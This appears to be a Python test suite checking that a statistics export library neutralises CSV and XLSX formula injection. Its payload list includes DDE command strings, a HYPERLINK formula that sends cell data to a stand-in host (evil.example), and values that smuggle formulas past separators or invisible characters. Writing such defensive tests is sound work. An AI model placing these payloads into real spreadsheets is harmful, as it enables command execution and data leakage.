"""No text that anybody can enter becomes a formula, a link or a cell of its own in a file of figures."""

import csv
import io
import re
import zipfile

import hypothesis
import openpyxl
import pytest
from hypothesis import strategies

from kaikukortti import figurefiles, jsonstat
from kaikukortti.figuretable import Category, Dimension, FigureTable
from tests import hostiletexts
from tests.unit.figure_samples import WORDS, make_table

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212"
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Avaa")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+358 5 000",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00ad=1",
    "＝1+1",
    '"=1+1',
    "'=1+1",
    'Teatteri";=1+1;"',
    "Teatteri;=1+1",
    "Teatteri,=1+1",
    "Teatteri\t=1+1",
    "Teatteri\r\n=1+1",
    "Teatteri, +1",
    "https://evil.example",
    "internal:'Sheet1'!A1",
    "mailto:a@evil.example",
    "{=1+1}",
]
NUMBER = re.compile(r"-?\d+(,\d+)?")
BLANK = re.compile(r"[\s\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]+")
HOSTILE = [*FORMULAS, *hostiletexts.WORST, *hostiletexts.drawn(20, 3000)]
HOSTILE += [sign + text for sign in SIGNS for text in hostiletexts.drawn(21, 60)]


def table_of(texts: list[str]) -> FigureTable:
    """Return a table with these texts in every place where a text stands."""
    rows = tuple(Category(f"r{place}", text) for place, text in enumerate(texts))
    who = Dimension("who", texts[0], (Category("a", texts[0]), Category("b", texts[-1])))
    found = make_table(Dimension("row", texts[-1], rows), who, values=[-5] * 2 * len(texts), title=texts[0])
    told = {name: texts[0] for name in ("definition", "rounding", "source", "unit")}
    return FigureTable(**{**vars(found), **told})


def check_csv(data: bytes) -> None:
    """Assert that no program takes a cell for a formula, whatever sign it takes for a separator."""
    text = data.decode("utf-8-sig")
    for delimiter in (";", ",", "\t", "|"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for cell in row:
                seen = BLANK.sub("", cell).lstrip('"')
                assert not seen or seen[0] not in SIGNS or NUMBER.fullmatch(seen.split(";")[0]), (delimiter, cell)


def check_xlsx(data: bytes, texts: list[str]) -> None:
    """Assert that every text is a text, and that the workbook has neither formulas nor links."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in "sn" and cell.hyperlink is None, cell.value
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            body = parts.read(name)
            assert b"<f>" not in body and b"<hyperlink" not in body and b"externalLink" not in body, name
    if not any(figurefiles._CONTROLS.search(text) for text in texts):
        found = [row[0] for row in book.worksheets[0].iter_rows(min_row=6, values_only=True)]
        assert [cell or "" for cell in found] == [text[: figurefiles.LONGEST_CELL] for text in texts]


def test_hostile_texts_are_harmless_in_csv():
    check_csv(figurefiles.csv(table_of(HOSTILE), WORDS))


def test_hostile_texts_are_texts_in_xlsx():
    texts = [text[:200] for text in HOSTILE]
    check_xlsx(figurefiles.xlsx(table_of(texts), WORDS), texts)


def test_hostile_texts_stay_whole_in_jsonstat():
    found = jsonstat.dataset(table_of(HOSTILE), WORDS)
    assert list(found["dimension"]["row"]["category"]["label"].values()) == HOSTILE


@pytest.mark.parametrize("text", FORMULAS)
def test_each_formula_by_itself(text):
    check_csv(figurefiles.csv(table_of([text]), WORDS))
    check_xlsx(figurefiles.xlsx(table_of([text]), WORDS), [text])


@hypothesis.given(strategies.text(alphabet=strategies.sampled_from("=+-@;,|\"'\t\r\n \u00a0\u200b＝1a"), max_size=12))
@hypothesis.settings(max_examples=300)
def test_whatever_signs_are_put_together(text):
    check_csv(figurefiles.csv(table_of([text, "b"]), WORDS))


def test_plain_texts_are_left_alone():
    for text in ("Kaupunginteatteri", "16–29", "Jukola-areena", "A+B", "Myllysaari (uimahalli)", "50 %", "L'Étoile"):
        assert figurefiles.harmless(text) == text
